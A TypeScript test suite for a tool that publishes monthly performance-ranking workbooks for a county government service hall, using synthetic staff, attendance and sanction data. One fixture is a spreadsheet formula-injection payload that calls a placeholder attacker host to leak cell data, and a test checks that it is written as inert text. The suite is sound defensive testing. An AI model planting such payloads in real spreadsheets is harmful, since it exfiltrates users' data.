import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { defaultConfig } from "../pipeline/config.ts";
import { Db, type Row } from "../pipeline/db.ts";
import { displayWidth } from "../pipeline/publish/workbook/display-width.ts";
import { quarantineDetailLimit } from "../pipeline/publish/workbook/sheets.ts";
import { monthLabel, workbookFileName, writeMonthWorkbook } from "../pipeline/publish/workbook.ts";
import { publishWorkbooks } from "../pipeline/publish/workbooks.ts";
import { runPipeline } from "../pipeline/run.ts";
import { configurationEntries } from "../pipeline/transform/parameters.ts";
import { writeInbox } from "./support/hall.ts";
import { insertRows } from "./support/insert-rows.ts";
import { publishRuleTables } from "./support/rule-tables.ts";
import { sheetRows } from "./support/sheet-rows.ts";
import { createEmptyWarehouse, deriveRollUps } from "./support/synthetic-warehouse.ts";

const hallName = "示例县政务服务中心";
const injectedName = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const sheetNames = [
  "个人排名",
  "窗口单位排名",
  "加扣分明细",
  "责任追究台账",
  "考勤异常",
  "疑似异常评价",
  "数据质量",
  "说明",
];

const staff = (overrides: Record<string, unknown>) => ({
  month: "2026-10",
  department: "市场监管局",
  deduction_events: 0,
  addition_events: 0,
  scheduled_days: 17,
  duty_required_days: 8,
  status: "公示",
  is_award_winner: false,
  eligible: true,
  ...overrides,
});

/** A small hall: October 2026 (公示) with every kind of row, September 2026 (确认) with one person. */
async function fillWarehouse(db: Db): Promise<void> {
  await insertRows(db, "wh.marts.months", [
    {
      month: "2026-09",
      status: "确认",
      as_of: "2026-11-04",
      appeal_window_end: "2026-10-15",
      working_days: 19,
      data_days: 19,
      missing_data_days: 0,
      pending_days: 0,
      staff_ranked: 1,
      is_frozen: true,
    },
    {
      month: "2026-10",
      status: "公示",
      as_of: "2026-11-04",
      appeal_window_end: "2026-11-07",
      working_days: 17,
      data_days: 16,
      missing_data_days: 1,
      pending_days: 0,
      staff_ranked: 4,
      calendar_note: null,
      is_frozen: false,
    },
  ]);
  await insertRows(db, "wh.marts.staff_month", [
    staff({
      staff_id: "S0001",
      staff_name: "张三",
      window_no: "A01",
      score: 103.5,
      deduction_points: 1,
      addition_points: 4.5,
      addition_events: 3,
      deduction_events: 1,
      rank: 1,
      order_no: 1,
      grade: "优秀",
      good_rate: 0.952,
      evaluations: 21,
      served_tickets: 310,
      duty_days: 16,
      is_award_winner: true,
    }),
    staff({
      staff_id: "S0002",
      staff_name: "李四",
      window_no: "A02",
      score: 99,
      deduction_points: 1,
      addition_points: 0,
      deduction_events: 1,
      rank: 2,
      order_no: 2,
      tie_break: "好评率",
      grade: "合格",
      good_rate: 0.9,
      evaluations: 10,
      served_tickets: 200,
      duty_days: 15,
    }),
    staff({
      staff_id: "S0003",
      staff_name: "王五",
      department: "公安局",
      window_no: "B01",
      score: 99,
      deduction_points: 1,
      addition_points: 0,
      deduction_events: 1,
      rank: 2,
      order_no: 3,
      tie_break: "好评率",
      grade: "合格",
      good_rate: null,
      evaluations: 0,
      served_tickets: 5,
      duty_days: 4,
      eligible: false,
      ineligible_reason: "在岗天数不足（4 天，需 8 天）",
    }),
    staff({
      staff_id: "S0004",
      staff_name: injectedName,
      department: "公安局",
      window_no: "B02",
      score: 88,
      deduction_points: 12,
      addition_points: 0,
      deduction_events: 3,
      rank: 4,
      order_no: 4,
      grade: "末位",
      good_rate: 0.5,
      evaluations: 2,
      served_tickets: 40,
      duty_days: 12,
      sanction_tier: "取消评优评先资格",
      eligible: false,
      ineligible_reason: "受取消评优评先资格处理",
    }),
    {
      ...staff({
        staff_id: "S0001",
        staff_name: "张三",
        window_no: "A01",
        score: 100,
        deduction_points: 0,
        addition_points: 0,
        rank: 1,
        order_no: 1,
        grade: "合格",
        good_rate: 1,
        evaluations: 3,
        served_tickets: 99,
        duty_days: 19,
      }),
      month: "2026-09",
      status: "确认",
    },
  ]);
  await insertRows(db, "wh.marts.department_month", [
    {
      month: "2026-10",
      department: "市场监管局",
      staff_count: 2,
      avg_score: 101.25,
      good_rate: 0.935,
      evaluations: 31,
      verified_complaints: 0,
      empty_post_sessions: 0,
      removed_staff: 0,
      rank: 1,
      order_no: 1,
      eligible: true,
      is_award_winner: true,
      status: "公示",
    },
    {
      month: "2026-10",
      department: "公安局",
      staff_count: 2,
      avg_score: 93.5,
      good_rate: 0.5,
      evaluations: 2,
      verified_complaints: 1,
      empty_post_sessions: 2,
      removed_staff: 0,
      rank: 2,
      order_no: 2,
      eligible: false,
      ineligible_reason: "AB岗空岗 2 次",
      is_award_winner: false,
      status: "公示",
    },
  ]);
  await insertRows(db, "wh.marts.awards", [
    {
      month: "2026-10",
      award: "文明服务标兵",
      winner_id: "S0001",
      winner_name: "张三",
      department: "市场监管局",
      score: 103.5,
      good_rate: 0.952,
      decided_by: "得分",
      reason: "得分最高",
      status: "公示",
    },
    {
      month: "2026-10",
      award: "文明服务窗口",
      winner_id: "市场监管局",
      winner_name: "市场监管局",
      score: 101.25,
      decided_by: "唯一具备资格者",
      reason: "唯一具备资格的部门",
      status: "公示",
    },
  ]);
  await insertRows(db, "wh.marts.score_events", [
    {
      event_id: "ATT_LATE:S0002:2026-10-09:AM",
      month: "2026-10",
      staff_id: "S0002",
      staff_name: "李四",
      department: "市场监管局",
      rule_code: "ATT_LATE",
      rule_name: "上班迟到",
      points: -1,
      event_date: "2026-10-09",
      session: "AM",
      source: "考勤",
      source_ref: "attendance/2026-10.csv:12",
      detail: "08:45 打卡，应到 08:30",
      void: false,
    },
    {
      event_id: "PRAISE:S0001:2026-10-10:C001",
      month: "2026-10",
      staff_id: "S0001",
      staff_name: "张三",
      department: "市场监管局",
      rule_code: "PRAISE",
      rule_name: "表扬",
      points: 2,
      event_date: "2026-10-10",
      source: "表扬",
      source_ref: "C001",
      detail: "+1 锦旗",
      void: false,
    },
    {
      event_id: "AWAY_30:S0004:2026-10-31:P9",
      month: "2026-10",
      staff_id: "S0004",
      staff_name: injectedName,
      department: "公安局",
      rule_code: "AWAY_30",
      rule_name: "擅自离岗30分钟以上",
      points: -3,
      event_date: "2026-10-31",
      source: "巡查",
      source_ref: "P9",
      detail: "@离岗 35 分钟",
      void: true,
      appeal_id: "AP01",
      appeal_status: "撤销",
    },
    {
      event_id: "ATT_LATE:S0001:2026-09-30:PM",
      month: "2026-09",
      staff_id: "S0001",
      staff_name: "张三",
      department: "市场监管局",
      rule_code: "ATT_LATE",
      rule_name: "上班迟到",
      points: -1,
      event_date: "2026-09-30",
      source: "考勤",
      source_ref: "attendance/2026-09.csv:3",
      void: false,
    },
  ]);
  await insertRows(db, "wh.marts.investigations", [
    {
      case_id: "INV:R03:S0004:2026-10-31",
      month: "2026-10",
      staff_id: "S0004",
      staff_name: injectedName,
      department: "公安局",
      trigger: "R03",
      trigger_name: "在服务窗口值班时擅自离岗",
      occurred_on: "2026-10-31",
      event_id: "AWAY_30:S0004:2026-10-31:P9",
      event_ids: ["AWAY_30:S0004:2026-10-31:P9", "ABSENT_HALF:S0004:2026-10-31:PM"],
      base_tier: "取消评优评先资格",
      aggravating: "一年内再次发生",
      mitigating: null,
      final_tier: "通报批评并调离岗位",
      status: "已认定",
      decided_on: "2026-11-02",
      blocks_eligibility: true,
      void: false,
    },
    {
      case_id: "INV:R01:S0002:2026-10-01",
      month: "2026-10",
      staff_id: "S0002",
      staff_name: "李四",
      department: "市场监管局",
      trigger: "R01",
      trigger_name: "对申请人推诿或者粗暴刁难",
      occurred_on: "2026-10-01",
      event_id: "QUARREL:S0002:2026-10-01:P1",
      event_ids: ["QUARREL:S0002:2026-10-01:P1"],
      base_tier: "告诫",
      mitigating: "道歉谅解",
      final_tier: "免于处理",
      status: "建议",
      blocks_eligibility: false,
      void: false,
    },
  ]);
  await insertRows(db, "wh.marts.attendance_sessions", [
    {
      month: "2026-10",
      work_date: "2026-10-09",
      staff_id: "S0002",
      staff_name: "李四",
      department: "市场监管局",
      session: "AM",
      in_at: "2026-10-09 08:45:00",
      out_at: "2026-10-09 12:01:00",
      expected_start: "2026-10-09 08:30:00",
      expected_end: "2026-10-09 12:00:00",
      outcome: "迟到",
      is_anomaly: true,
    },
    {
      month: "2026-10",
      work_date: "2026-10-09",
      staff_id: "S0002",
      staff_name: "李四",
      department: "市场监管局",
      session: "PM",
      in_at: "2026-10-09 14:20:00",
      out_at: "2026-10-09 17:05:00",
      expected_start: "2026-10-09 14:30:00",
      expected_end: "2026-10-09 17:00:00",
      outcome: "正常",
      is_anomaly: false,
    },
    {
      month: "2026-10",
      work_date: "2026-10-10",
      staff_id: "S0003",
      staff_name: "王五",
      department: "公安局",
      session: "PM",
      in_at: null,
      out_at: "2026-10-10 17:01:00",
      expected_start: "2026-10-10 14:30:00",
      expected_end: "2026-10-10 17:00:00",
      outcome: "缺卡",
      is_anomaly: true,
    },
    {
      month: "2026-10",
      work_date: "2026-10-12",
      staff_id: "S0003",
      staff_name: "王五",
      department: "公安局",
      session: "AM",
      expected_start: "2026-10-12 08:30:00",
      expected_end: "2026-10-12 12:00:00",
      leave_id: "L1",
      outcome: "请假",
      is_anomaly: false,
    },
    {
      month: "2026-10",
      work_date: "2026-10-31",
      staff_id: "S0004",
      staff_name: injectedName,
      department: "公安局",
      session: "PM",
      expected_start: "2026-10-31 14:30:00",
      expected_end: "2026-10-31 17:00:00",
      outcome: "旷工",
      is_anomaly: true,
    },
  ]);
  await insertRows(db, "wh.marts.attendance_missing_days", [
    { month: "2026-10", work_date: "2026-10-20", reason: "全大厅无任何打卡" },
  ]);
  await insertRows(db, "wh.marts.ab_posts_without_backup", [
    {
      month: "2026-10",
      department: "公安局",
      window_no: "B03",
      a_holders: "S0005",
      problem: "无B岗：名册中没有人员以本窗口为B岗窗口",
      days: 16,
      first_day: "2026-10-08",
      last_day: "2026-10-31",
    },
    {
      month: "2026-09",
      department: "公安局",
      window_no: "B03",
      a_holders: "S0005",
      problem: "无B岗：名册中没有人员以本窗口为B岗窗口",
      days: 20,
      first_day: "2026-09-01",
      last_day: "2026-09-30",
    },
  ]);
  await insertRows(db, "wh.ops.loads", [
    {
      path: "roster/名册.csv",
      sha256: "aa",
      source: "roster",
      loaded_at: "2026-11-04 01:00:00",
      status: "已加载",
      encoding: "utf-8",
      rows: 4,
      quarantined: 0,
    },
    {
      path: "attendance/2026-10.csv",
      sha256: "bb",
      source: "attendance",
      loaded_at: "2026-11-04 01:00:01",
      status: "已加载",
      encoding: "gb18030",
      rows: 2500,
      quarantined: quarantineDetailLimit + 3,
    },
    {
      path: "attendance/2026-10 副本.csv",
      sha256: "bb",
      source: "attendance",
      loaded_at: "2026-11-04 01:00:02",
      status: "内容重复",
      reason: "与 attendance/2026-10.csv 内容相同",
      encoding: "gb18030",
      rows: 0,
      quarantined: 0,
    },
  ]);
  await insertRows(db, "wh.marts.roster_findings", [
    {
      finding: "无考勤号码",
      staff_id: "S0003",
      staff_name: "王五",
      department: "市场监管局",
      account_kind: "考勤号码",
      start_date: "2026-10-12",
      unscored_days: 14,
      detail:
        "名册未登记 S0003 王五 的考勤号码：不计考勤（未确认月份中 14 个有考勤数据的工作日），不按旷工处理。请在名册中补登考勤号码",
      source_ref: "roster/名册.csv:4",
    },
  ]);
  // More quarantined rows than the detail lists, with a raw line that must never reach the workbook.
  await db.run(`
    insert into wh.ops.quarantine (path, line, source, reason_kind, reason, raw, load_id)
    select 'attendance/2026-10.csv', line, 'attendance',
      case when line % 3 = 0 then '时间无法识别' else '考勤号码不在名册中' end,
      case when line % 3 = 0 then '时间无法识别：日期时间 = 2026/13/1' else '考勤号码不在名册中：考勤号码 = 9' || line end,
      '投诉人 赵六 13800000000', 2
    from range(2, ${quarantineDetailLimit + 5}) as lines(line)`);
  await db.run("use wh");
  await deriveRollUps(db);
  await db.run("use memory");
}

/** Data rows of the block whose header row starts with `firstHeader`, up to the next empty row. */
function block(rows: unknown[][], firstHeader: string): unknown[][] {
  const header = rows.findIndex((row) => row[0] === firstHeader);
  expect(header, `header ${firstHeader}`).toBeGreaterThan(0);
  const end = rows.findIndex((row, index) => index > header && row.length === 0);
  return rows.slice(header + 1, end === -1 ? undefined : end);
}

const iso = (value: unknown): string | null =>
  value instanceof Date ? value.toISOString().replace(".000Z", "").replace("T00:00:00", "") : null;
const yesNo = (value: unknown): string => (value ? "是" : "否");
const orNull = (value: unknown): unknown => (value === undefined ? null : value);

describe("writeMonthWorkbook", () => {
  let root: string;
  let db: Db;
  let october: { path: string; rows: number };
  let september: { path: string; rows: number };
  let workbook: ExcelJS.Workbook;
  const marts = (sql: string, params?: Record<string, string>): Promise<Row[]> => db.all(sql, params);

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), "workbook-"));
    db = await Db.open(":memory:");
    await createEmptyWarehouse(join(root, "warehouse.duckdb"));
    await publishRuleTables(join(root, "warehouse.duckdb"), ["2026-09", "2026-10"]);
    await db.run(`attach '${join(root, "warehouse.duckdb")}' as wh`);
    await fillWarehouse(db);
    const options = { catalog: "wh", asOf: "2026-11-04", hallName };
    october = await writeMonthWorkbook(db, {
      ...options,
      month: "2026-10",
      directory: join(root, "reports", "2026-10"),
    });
    september = await writeMonthWorkbook(db, {
      ...options,
      month: "2026-09",
      directory: join(root, "reports", "2026-09"),
    });
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(october.path);
  });

  afterAll(async () => {
    db?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  it("names the file after hall and month and leaves nothing else in the directory", async () => {
    expect(october.path).toBe(
      join(root, "reports", "2026-10", "示例县政务服务中心_2026年10月_绩效考核.xlsx"),
    );
    expect(await readdir(join(root, "reports", "2026-10"))).toEqual([
      "示例县政务服务中心_2026年10月_绩效考核.xlsx",
    ]);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(sheetNames);
  });

  it("sets the workbook properties, created on the as-of date", () => {
    expect(workbook.creator).toBe(hallName);
    expect(workbook.title).toBe("示例县政务服务中心 2026年10月 窗口工作人员绩效考核");
    expect(workbook.subject).toBe("2026年10月 月度考核结果（公示）");
    expect(workbook.created?.toISOString()).toBe("2026-11-04T00:00:00.000Z");
  });

  it("titles every sheet with hall, month and status: 公示 in the appeal window, 确认 after", async () => {
    const title = (book: ExcelJS.Workbook, name: string) => book.getWorksheet(name)?.getCell("A1").value;
    expect(title(workbook, "个人排名")).toBe(
      "示例县政务服务中心 2026年10月 窗口工作人员月度考核排名（公示）",
    );
    const final = new ExcelJS.Workbook();
    await final.xlsx.readFile(september.path);
    expect(title(final, "个人排名")).toBe("示例县政务服务中心 2026年9月 窗口工作人员月度考核排名（确认）");
    for (const sheet of workbook.worksheets)
      expect(String(sheet.getCell("A1").value)).toMatch(/^示例县政务服务中心 2026年10月 .+（公示）$/);
    for (const sheet of final.worksheets) expect(String(sheet.getCell("A1").value)).toMatch(/（确认）$/);
    expect(
      sheetRows(final.getWorksheet("个人排名")!)
        .slice(3)
        .map((row) => row[2]),
    ).toEqual(["S0001"]);
  });

  it("个人排名 lists staff_month in order_no with every column, the award star and highlights", async () => {
    const sheet = workbook.getWorksheet("个人排名")!;
    const rows = sheetRows(sheet);
    expect(rows[2]).toEqual([
      "序号",
      "名次",
      "工号",
      "姓名",
      "部门",
      "窗口",
      "得分",
      "扣分",
      "加分",
      "等级",
      "好评率",
      "评价数",
      "办件量",
      "在岗天数",
      "可否评优",
      "不能评优原因",
      "标兵",
      "同分排序依据",
    ]);
    const expected = (
      await marts("select * from wh.marts.staff_month where month = '2026-10' order by order_no")
    ).map((s) =>
      [
        s.order_no,
        s.rank,
        s.staff_id,
        s.staff_name,
        s.department,
        s.window_no,
        s.score,
        s.deduction_points,
        s.addition_points,
        s.grade,
        s.good_rate,
        s.evaluations,
        s.served_tickets,
        s.duty_days,
        yesNo(s.eligible),
        s.ineligible_reason,
        s.is_award_winner ? "★" : null,
        s.tie_break,
      ].map(orNull),
    );
    expect(block(rows, "序号").map((row) => expected[0]!.map((_v, i) => row[i] ?? null))).toEqual(expected);
    const fill = (row: number) =>
      (sheet.getCell(row, 1).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
    expect([4, 5, 6, 7].map(fill)).toEqual([undefined, undefined, "FFFFF2CC", "FFFFC7CE"]);
    expect(String(sheet.getCell("A2").value)).toContain("浅红底色：末位");
    expect(sheet.getCell("G4").numFmt).toBe("0.0");
    expect(sheet.getCell("K4").numFmt).toBe("0.0%");
  });

  it("窗口单位排名 lists department_month with the 文明服务窗口 mark", async () => {
    const rows = block(sheetRows(workbook.getWorksheet("窗口单位排名")!), "名次");
    const expected = (
      await marts("select * from wh.marts.department_month where month = '2026-10' order by order_no")
    ).map((d) =>
      [
        d.rank,
        d.department,
        d.staff_count,
        d.avg_score,
        d.good_rate,
        d.verified_complaints,
        d.empty_post_sessions,
        yesNo(d.eligible),
        d.ineligible_reason,
        d.is_award_winner ? "★" : null,
      ].map(orNull),
    );
    expect(rows.map((row) => expected[0]!.map((_v, i) => row[i] ?? null))).toEqual(expected);
  });

  it("加扣分明细 lists the month's score events with dates as calendar days", async () => {
    const sheet = workbook.getWorksheet("加扣分明细")!;
    const rows = block(sheetRows(sheet), "事件编号");
    const expected = (
      await marts(
        "select * from wh.marts.score_events where month = '2026-10' order by event_date, staff_id, event_id",
      )
    ).map((e) =>
      [
        e.event_id,
        iso(e.event_date),
        e.staff_id,
        e.staff_name,
        e.department,
        e.rule_code,
        e.rule_name,
        e.points,
        e.source,
        e.source_ref,
        e.detail,
        yesNo(e.void),
        e.appeal_id,
        e.appeal_status,
      ].map(orNull),
    );
    expect(rows.map((row) => expected[0]!.map((_v, i) => row[i] ?? null))).toEqual(expected);
    expect(sheet.getCell("B4").value).toEqual(new Date(Date.UTC(2026, 9, 9)));
    expect(sheet.getCell("B4").numFmt).toBe("yyyy-mm-dd");
  });

  it("责任追究台账 lists the month's cases with all their triggering events", async () => {
    const rows = block(sheetRows(workbook.getWorksheet("责任追究台账")!), "案件编号");
    const expected = (
      await marts(
        "select * from wh.marts.investigations where month = '2026-10' order by occurred_on, staff_id, case_id",
      )
    ).map((c) =>
      [
        c.case_id,
        c.staff_id,
        c.staff_name,
        c.department,
        c.trigger,
        c.trigger_name,
        iso(c.occurred_on),
        c.base_tier,
        c.aggravating,
        c.mitigating,
        c.final_tier,
        c.status,
        c.merged_into,
        (c.event_ids as string[]).join("、"),
        yesNo(c.void),
        c.appeal_id,
      ].map(orNull),
    );
    expect(rows.map((row) => expected[0]!.map((_v, i) => row[i] ?? null))).toEqual(expected);
  });

  it("考勤异常 lists only exceptional sessions, then the missing-data days", async () => {
    const rows = sheetRows(workbook.getWorksheet("考勤异常")!);
    const expected = (
      await marts(
        "select * from wh.marts.attendance_sessions where month = '2026-10' and outcome not in ('正常', '请假') order by work_date, staff_id, session",
      )
    ).map((s) =>
      [
        iso(s.work_date),
        s.session === "AM" ? "上午" : "下午",
        s.staff_id,
        s.staff_name,
        s.department,
        iso(s.in_at),
        iso(s.out_at),
        iso(s.expected_start),
        iso(s.expected_end),
        s.outcome,
      ].map(orNull),
    );
    expect(expected.map((row) => row[9])).toEqual(["迟到", "缺卡", "旷工"]);
    const sessions = block(rows, "日期");
    expect(sessions.map((row) => expected[0]!.map((_v, i) => row[i] ?? null))).toEqual(expected);
    const missing = rows.slice(rows.findIndex((row) => String(row[0]).startsWith("考勤数据缺失日")) + 2);
    expect(missing).toEqual([["2026-10-20", "全大厅无任何打卡"]]);
  });

  it("数据质量 lists loaded and skipped files, roster problems, counts every quarantined row, the month's posts without a B holder, details at most the limit and never the raw line", async () => {
    const rows = sheetRows(workbook.getWorksheet("数据质量")!);
    expect(block(rows, "文件").map((row) => [row[0], row[2], row[6], row[7]])).toEqual(
      (await marts("select * from wh.ops.loads order by loaded_at, path")).map((l) => [
        l.path,
        l.status,
        l.rows,
        l.quarantined,
      ]),
    );
    expect(block(rows, "问题")).toEqual([
      [
        "无考勤号码",
        "S0003",
        "王五",
        "市场监管局",
        "考勤号码",
        null,
        null,
        "2026-10-12",
        null,
        14,
        "名册未登记 S0003 王五 的考勤号码：不计考勤（未确认月份中 14 个有考勤数据的工作日），不按旷工处理。请在名册中补登考勤号码",
      ],
    ]);
    const grouped = block(rows, "来源");
    expect(grouped).toEqual(
      (
        await marts(
          "select source, reason_kind, count(*)::integer as n, count(distinct path)::integer as f from wh.ops.quarantine group by all order by source, n desc, reason_kind",
        )
      ).map((q) => [q.source, q.reason_kind, q.n, q.f]),
    );
    expect(grouped.reduce((sum, row) => sum + Number(row[2]), 0)).toBe(quarantineDetailLimit + 3);
    expect(block(rows, "部门")).toEqual([
      [
        "公安局",
        "B03",
        "S0005",
        null,
        "无B岗：名册中没有人员以本窗口为B岗窗口",
        16,
        "2026-10-08",
        "2026-10-31",
      ],
    ]);
    const detailHeading = rows.findIndex((row) => String(row[0]).startsWith("隔离行明细"));
    const detail = rows.slice(detailHeading + 2).filter((row) => row.length > 0);
    expect(detail).toHaveLength(quarantineDetailLimit);
    expect(detail[0]).toEqual([
      "attendance/2026-10.csv",
      "attendance",
      2,
      "考勤号码不在名册中：考勤号码 = 92",
    ]);
    const text = JSON.stringify(workbook.worksheets.map(sheetRows));
    expect(text).not.toContain("13800000000");
    expect(text).not.toContain("赵六");
  });

  it("说明 gives status, appeal deadline, how the month was scored and how to appeal, in the month's numbers", () => {
    const rows = sheetRows(workbook.getWorksheet("说明")!);
    const item = (name: string) => String(rows.find((row) => row[0] === name)?.[1]);
    expect(item("结果状态")).toContain("公示");
    expect(item("申诉截止日")).toBe("2026-11-07");
    expect(item("得分计算")).toBe(
      "基础分 100 分，加上加分、减去扣分（申诉撤销的事件不计）；每月加分上限：不设；得分下限：不设",
    );
    expect(item("等级比例")).toContain("优秀为严格排序前 18%，末位为后 2%");
    expect(item("等级比例")).toContain("优秀 1 人、合格 2 人、末位 1 人");
    expect(item("文明服务标兵")).toContain("在岗天数不少于有考勤数据工作日的 50%");
    const explanation = workbook.getWorksheet("说明")!;
    const appealRow = explanation.getColumn(1).values.indexOf("申诉办法");
    const lines = Math.ceil(displayWidth(item("申诉办法")) / 48); // the 内容 column at its widest (60) less a margin for fonts wider than two units
    expect(lines).toBeGreaterThan(1);
    expect(explanation.getRow(appealRow).height).toBe(lines * 16);
    expect(item("申诉办法")).toBe(
      "对本月结果有异议的，请于月末后 5 个工作日内（截至 2026-11-07），注明事件编号（见“加扣分明细”）或案件编号（见“责任追究台账”），经中心办公室提出申诉；写法见《规则说明》§17。",
    );
  });

  it("说明 lists every setting of the month and every rule code with its points, what raises it and its trigger", () => {
    const rows = sheetRows(workbook.getWorksheet("说明")!);
    const settings = block(rows, "条款");
    const keys = new Set(configurationEntries(defaultConfig).map((entry) => entry.key));
    expect(new Set(settings.map((row) => row[3]))).toEqual(
      new Set([...keys].filter((key) => !key.startsWith("points."))),
    );
    expect(settings.find((row) => row[3] === "attendance.grace_minutes")).toEqual([
      "§2",
      "上班打卡宽限",
      "10 分钟",
      "attendance.grace_minutes",
    ]);
    expect(settings.map((row) => row[0])).toEqual(
      [...settings.map((row) => String(row[0]))].sort((a, b) => Number(a.slice(1)) - Number(b.slice(1))),
    );
    const points = block(rows, "规则代码");
    expect(points).toHaveLength(Object.keys(defaultConfig.points).length);
    expect(points.find((row) => row[0] === "ATT_LATE")).toEqual([
      "ATT_LATE",
      "上班迟到",
      "§2",
      "考勤",
      -1,
      "上班打卡晚于应到时间加 10 分钟宽限；已批准的请假覆盖上班时间时，应到时间改为请假结束时间",
    ]);
    expect(points.find((row) => row[0] === "AWAY_30")?.slice(4)).toEqual([
      -3,
      "一次离岗超过 30 分钟（相隔不足 5 分钟的几段离岗算一次；可豁免原因的暂停、已批准的请假不算离岗；请假时指定的顶岗人员晚于离开后 15 分钟到岗的，其间算离岗）",
      "R03",
    ]);
  });

  it("writes text that looks like a formula as a plain string, never a formula", async () => {
    const ranking = workbook.getWorksheet("个人排名")!;
    const cell = ranking.getCell("D7");
    expect(cell.value).toBe(injectedName);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    const details = block(sheetRows(workbook.getWorksheet("加扣分明细")!), "事件编号").map((row) => row[10]);
    expect(details).toEqual(["08:45 打卡，应到 08:30", "+1 锦旗", "@离岗 35 分钟"]);
    const zip = await JSZip.loadAsync(await readFile(october.path));
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toHaveLength(sheetNames.length);
    for (const name of sheets) expect(await zip.file(name)!.async("string")).not.toMatch(/<f[ >]/);
  });

  it("freezes and filters the header, repeats it on printed pages and prints A4 landscape one page wide", async () => {
    for (const sheet of workbook.worksheets) {
      const headerRow = sheet.name === "数据质量" ? 4 : 3;
      expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: headerRow });
      expect(sheet.pageSetup).toMatchObject({
        paperSize: 9,
        orientation: "landscape",
        fitToPage: true,
        fitToWidth: 1,
        fitToHeight: 0,
      });
      // Sheets whose later blocks have other headers do not repeat the first one on every page.
      const repeated = ["数据质量", "说明"].includes(sheet.name) ? undefined : `${headerRow}:${headerRow}`;
      expect(sheet.pageSetup.printTitlesRow).toBe(repeated);
      expect(sheet.headerFooter.oddFooter).toBe("&C&P / &N");
      expect(sheet.getCell("A1").font?.bold).toBe(true);
      expect(sheet.getCell("A1").isMerged).toBe(true);
    }
    const zip = await JSZip.loadAsync(await readFile(october.path));
    expect(await zip.file("xl/worksheets/sheet1.xml")!.async("string")).toContain(
      '<autoFilter ref="A3:R3"/>',
    );
  });

  it("sizes columns to Chinese text (two units a character)", () => {
    expect(displayWidth("李四")).toBe(4);
    expect(displayWidth("A01")).toBe(3);
    expect(displayWidth("ATT_LATE：上班迟到")).toBe(18);
    const ranking = workbook.getWorksheet("个人排名")!;
    expect(ranking.getColumn(5).width).toBe(displayWidth("市场监管局") + 2); // wider than the header 部门
    expect(ranking.getColumn(16).width).toBe(displayWidth("在岗天数不足（4 天，需 8 天）") + 2);
    // The missing-day reason under 时段 runs on to the right instead of widening 时段.
    expect(workbook.getWorksheet("考勤异常")!.getColumn(2).width).toBe(displayWidth("时段") + 3);
    expect(ranking.getColumn(2).width).toBe(displayWidth("名次") + 3); // header plus the filter button
  });

  it("counts the data rows it wrote", () => {
    const items = block(sheetRows(workbook.getWorksheet("说明")!), "项目").length;
    expect(october.rows).toBe(
      4 +
        2 +
        3 +
        2 +
        3 +
        1 +
        3 +
        2 +
        1 + // 数据质量: the roster finding
        1 + // 数据质量: the post without a B holder
        quarantineDetailLimit +
        items +
        block(sheetRows(workbook.getWorksheet("说明")!), "条款").length +
        Object.keys(defaultConfig.points).length,
    );
  });

  it("refuses a month that is not in the warehouse, or not a month", async () => {
    const options = {
      catalog: "wh",
      asOf: "2026-11-04",
      hallName,
      directory: join(root, "x"),
    };
    await expect(writeMonthWorkbook(db, { ...options, month: "2026-08" })).rejects.toThrow(
      "仓库中没有 2026-08 月的结果",
    );
    await expect(writeMonthWorkbook(db, { ...options, month: "2026-13" })).rejects.toThrow(
      '月份 "2026-13" 无效',
    );
    expect(monthLabel("2026-01")).toBe("2026年1月");
    expect(workbookFileName("某县 政务/服务中心", "2026-10")).toBe(
      "某县_政务_服务中心_2026年10月_绩效考核.xlsx",
    );
  });

  it("leaves no partial file behind when a sheet fails half way", async () => {
    const broken = join(root, "broken.duckdb");
    await createEmptyWarehouse(broken);
    await db.run(`attach '${broken}' as broken`);
    try {
      await db.run(
        `insert into broken.marts.months select * from wh.marts.months;
         insert into broken.marts.rule_parameters select * from wh.marts.rule_parameters;
         drop table broken.ops.loads`,
      );
      const directory = join(root, "broken-reports");
      const written = writeMonthWorkbook(db, {
        catalog: "broken",
        month: "2026-10",
        directory,
        asOf: "2026-11-04",
        hallName,
      });
      await expect(written).rejects.toThrow(/loads/);
      expect(await readdir(directory)).toEqual([]);
    } finally {
      await db.run("detach broken");
    }
  });

  it("matches the golden content", async () => {
    const content = workbook.worksheets
      .map((sheet) => {
        const rows = sheetRows(sheet).map((row) =>
          row.map((value) => (value === null ? "" : String(value))).join(" | "),
        );
        const shown =
          sheet.name === "数据质量" ? [...rows.slice(0, 20), `… ${rows.length - 20} more rows`] : rows;
        return `## ${sheet.name}\n${shown.join("\n")}`;
      })
      .join("\n\n");
    await expect(`${content}\n`).toMatchFileSnapshot("__snapshots__/workbook.golden.txt");
  });
});

describe("publishWorkbooks", () => {
  let root: string | undefined;
  afterAll(async () => {
    if (root) await rm(root, { recursive: true, force: true });
  });

  /** A one-person hall run with the workbook publisher, optionally under a configuration file. */
  async function publish(name: string, config?: Record<string, unknown>) {
    root ??= await mkdtemp(join(tmpdir(), "workbook-run-"));
    const inbox = join(root, name, "inbox");
    const out = join(root, name, "out");
    await writeInbox(inbox, {
      roster: [
        {
          staff_id: "S0001",
          name: "张三",
          department: "市场监管局",
          window_no: "A01",
          attendance_no: "1001",
          start_date: "2026-01-01",
        },
      ],
      attendance: [
        { attendance_no: "1001", punched_at: "2026-10-09 08:35:00" },
        { attendance_no: "1001", punched_at: "2026-10-09 17:02:00" },
      ],
    });
    const configFile = config ? join(root, name, "config.json") : undefined;
    if (configFile) await writeFile(configFile, JSON.stringify(config));
    const lines: string[] = [];
    await runPipeline({
      inbox,
      out,
      asOf: "2026-11-04",
      configFile,
      publishers: [publishWorkbooks],
      log: (line) => lines.push(line),
    });
    const path = join(out, "reports", "2026-10", "示例县政务服务中心_2026年10月_绩效考核.xlsx");
    const published = new ExcelJS.Workbook();
    await published.xlsx.readFile(path);
    return { lines, published };
  }

